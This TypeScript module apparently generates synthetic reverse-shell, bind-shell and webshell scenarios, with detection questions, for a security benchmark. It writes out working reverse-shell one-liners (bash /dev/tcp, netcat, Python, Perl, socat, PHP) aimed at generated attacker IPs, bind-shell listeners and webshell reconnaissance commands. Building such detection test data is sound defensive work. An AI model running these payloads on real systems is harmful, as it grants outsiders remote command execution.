// Interactive access: reverse shells, bind shells and webshells spawned by web/application servers.
import type { Rng } from "./prng.js";
import { run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp } from "./fleet.js";
import { serviceUser } from "./attacks-miners.js";

function revCmd(rng: Rng, ip: string, port: number): { name: string; path: string; cmdline: string; child?: [string, string, string] } {
  const kind = rng.int(0, 6);
  switch (kind) {
    case 0: return { name: "bash", path: "/usr/bin/bash", cmdline: "bash -i", child: undefined };
    case 1: return { name: "nc", path: "/usr/bin/nc.traditional", cmdline: `nc -e /bin/sh ${ip} ${port}`, child: ["sh", "/usr/bin/dash", "/bin/sh"] };
    case 2: return { name: "python3", path: "/usr/bin/python3.12", cmdline: `python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${ip}",${port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")`, child: ["bash", "/usr/bin/bash", "/bin/bash"] };
    case 3: return { name: "perl", path: "/usr/bin/perl", cmdline: `perl -e use Socket;$i="${ip}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, child: ["sh", "/usr/bin/dash", "/bin/sh -i"] };
    case 4: return { name: "socat", path: "/usr/bin/socat", cmdline: `socat exec:bash -li,pty,stderr,setsid,sigint,sane tcp:${ip}:${port}`, child: ["bash", "/usr/bin/bash", "bash -li"] };
    case 5: return { name: "php", path: "/usr/bin/php8.3", cmdline: `php -r $sock=fsockopen("${ip}",${port});exec("/bin/sh -i <&3 >&3 2>&3");`, child: ["sh", "/usr/bin/dash", "/bin/sh -i"] };
    default: return { name: "nc", path: "/usr/bin/nc.openbsd", cmdline: `nc ${ip} ${port}`, child: ["sh", "/usr/bin/dash", "/bin/sh -i"] };
  }
}

const revShell: Family = {
  name: "reverse-shell", kind: "attack", attack: ["T1059.004", "T1071.001"], count: 6,
  sources: ["Sigma lnx_susp_dev_tcp", "Sigma proc_creation_lnx_netcat_reverse_shell", "Sigma proc_creation_lnx_python_reverse_shell", "Sigma proc_creation_lnx_perl_reverse_shell", "Sigma proc_creation_lnx_php_reverse_shell", "PayloadsAllTheThings: Reverse Shell Cheatsheet"],
  q: {
    direct: ["any reverse shells on the {role}?", "is there a reverse shell on {host}?", "check {env} for bash /dev/tcp or netcat shells", "any shell connected back to an external IP on {host}?", "look for reverse shells in {env}"],
    paraphrase: ["is someone remotely controlling a shell on {host}?", "is anybody typing commands on {host} from outside?", "is {host} phoning home to someone with a terminal?", "could an outsider have a live session on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "cache", "k8s"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const ip = hostileIp(rng);
    const port = rng.pick([4444, 443, 8080, 53, 1337, 9001, 4242, 8443, 5555]);
    const r = revCmd(rng, ip, port);
    const dash = h.spec.distro.pkg === "deb" ? "/usr/bin/dash" : "/usr/bin/bash";
    let top: number;
    if (r.name === "bash") {
      const outer = run(h, { name: "bash", path: "/usr/bin/bash", cmdline: `bash -c bash -i >& /dev/tcp/${ip}/${port} 0>&1`, uid: su.uid, parent: su.parent, cwd: su.cwd, ageMin: 120, ageMax: 20_000 });
      top = run(h, { name: "bash", path: "/usr/bin/bash", cmdline: "bash -i", uid: su.uid, parent: outer, cwd: su.cwd, ageMin: 100, ageMax: 100 });
      h.plant(`/dev/tcp/${ip}/${port}`);
    } else {
      const sh = run(h, { name: "sh", path: dash, cmdline: `sh -c ${r.cmdline.replace(/^\S+ /, `${r.name} `)}`, uid: su.uid, parent: su.parent, cwd: su.cwd, ageMin: 120, ageMax: 20_000 });
      top = run(h, { name: r.name, path: r.path, cmdline: r.cmdline, uid: su.uid, parent: sh, cwd: su.cwd, ageMin: 100, ageMax: 100 });
      if (r.child) run(h, { name: r.child[0], path: r.child[1] === "/usr/bin/dash" ? dash : r.child[1], cmdline: r.child[2], uid: su.uid, parent: top, cwd: su.cwd, ageMin: 90, ageMax: 90 });
      h.plant(r.cmdline);
    }
    h.conn(top, ip, port);
    h.plant(ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip] });
  },
};

const bindShell: Family = {
  name: "bind-shell", kind: "attack", attack: ["T1059.004", "T1571"], count: 4,
  sources: ["Sigma proc_creation_lnx_netcat_reverse_shell", "Atomic Red Team T1571", "PayloadsAllTheThings: Bind Shell Cheatsheet"],
  q: {
    direct: ["any bind shells listening on {host}?", "is netcat or socat serving a shell on an open port?", "check the {role} for backdoor listeners", "any unexpected listening shell on {host}?"],
    paraphrase: ["is there a door left open on {host} that gives a prompt to whoever connects?", "could anyone connect to {host} and get a command line?", "is something on the {role} waiting for an outsider to connect?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "broker"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const port = rng.pick([4444, 31337, 1234, 9999, 5555, 44444, 2222, 7777]);
    const variants: Array<[string, string, string]> = [
      ["nc", "/usr/bin/nc.traditional", `nc -lvnp ${port} -e /bin/bash`],
      ["socat", "/usr/bin/socat", `socat TCP-LISTEN:${port},reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid`],
      ["python3", "/usr/bin/python3.12", `python3 -c import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("0.0.0.0",${port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`],
      ["ncat", "/usr/bin/ncat", `ncat -lkp ${port} -e /bin/sh`],
    ];
    const [name, path, cmdline] = rng.pick(variants);
    const pid = run(h, { name, path, cmdline, uid: su.uid, parent: su.uid === 0 ? 1 : su.parent, cwd: su.cwd });
    h.listen(pid, port);
    if (rng.chance(0.5)) h.conn(pid, hostileIp(rng), rng.int(40000, 60000), { localPort: port });
    h.plant(cmdline);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [String(port)] });
  },
};

const WEBSHELL_CMDS = [
  "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www", "cd \"/var/www/html\";whoami;echo [S];pwd;echo [E]", "ps aux", "cat /etc/issue; id; hostname",
];

const webshell: Family = {
  name: "webshell", kind: "attack", attack: ["T1505.003", "T1190", "T1059.004"], count: 5,
  sources: ["Sigma proc_creation_lnx_webshell_detection", "Sigma proc_creation_lnx_susp_java_children", "Atomic Red Team T1505.003", "CISA/NSA: Detect and Prevent Web Shell Malware (2020)"],
  q: {
    direct: ["any webshells on the {role}?", "is the web server spawning shells on {host}?", "did someone drop a PHP/JSP webshell?", "check {host} for web server processes running system commands", "any webshell activity in {env}?"],
    paraphrase: ["can someone run commands through our website on {host}?", "is the website on {host} doing things it shouldn't, like running programs?", "did an attacker get in through the site and start poking around?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "web", "app"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const java = Boolean(b.svc.tomcat);
    const name = rng.pick(["shell", "cmd", "up", "wp-info", randName(rng, 5), "config.bak", "index2", "images"]);
    const path = java ? `/opt/tomcat/webapps/ROOT/${name}.jsp` : rng.pick([`/var/www/html/wp-content/uploads/2024/${String(rng.int(1, 12)).padStart(2, "0")}/${name}.php`, `/var/www/html/${name}.php`, `/var/www/html/images/.${name}.php`]);
    h.file(path, { uid: su.uid, gid: su.uid, mode: "0644", size: rng.int(300, 9000), mtime: h.recent(3_600, 86_400 * 6) });
    const dash = h.spec.distro.pkg === "deb" ? "/usr/bin/dash" : "/usr/bin/bash";
    const cmds = rng.sample(WEBSHELL_CMDS, rng.int(1, 2));
    for (const c of cmds) {
      const sh = run(h, { name: "sh", path: dash, cmdline: `sh -c ${c}`, uid: su.uid, parent: su.parent, cwd: java ? "/opt/tomcat" : path.slice(0, path.lastIndexOf("/")), ageMin: 5, ageMax: 400 });
      h.plant(`sh -c ${c}`);
      if (rng.chance(0.3)) h.conn(su.parent, hostileIp(rng), rng.int(40000, 60000), { localPort: java ? 8080 : 443 });
      void sh;
    }
    h.plant(path);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [path] });
  },
};

export const SHELL_FAMILIES: Family[] = [revShell, bindShell, webshell];
